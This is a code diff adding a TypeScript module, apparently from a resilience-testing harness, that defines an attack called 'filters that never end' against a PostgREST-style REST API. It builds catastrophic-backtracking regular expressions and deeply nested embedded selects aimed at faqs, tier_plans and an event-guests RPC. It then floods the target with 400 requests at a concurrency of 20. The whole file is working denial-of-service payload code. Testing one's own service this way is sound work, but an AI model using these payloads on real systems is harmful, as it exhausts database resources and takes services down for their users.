@@ -1,0 +1,19 @@
+import { type Attack, call, flood } from '../attack.ts';
+
+const endless = encodeURIComponent('^(.+)(.+)(.+)(.+)\\1\\2\\3\\4$');
+const queries = (event: string) => [
+  `faqs?answer=match.${endless}`,
+  `faqs?or=(answer.imatch.${endless})`,
+  `tier_plans?select=id,subscriptions(id)&subscriptions.plan_name=match.${endless}`,
+  `rpc/get_event_guests?event_uuid=${event}&name=match.${endless}`,
+  'tier_plans?select=id,subscriptions(tier_plans(subscriptions(tier_plans(id))))',
+];
+
+export const filters: Attack = {
+  name: 'filters that never end',
+  against: 'patterns in filters',
+  run(target, until) {
+    const asked = queries(target.ownEvent);
+    return flood(400, 20, (index) => call(target, `/rest/v1/${asked[index % asked.length]}`, {}, until), until);
+  },
+};
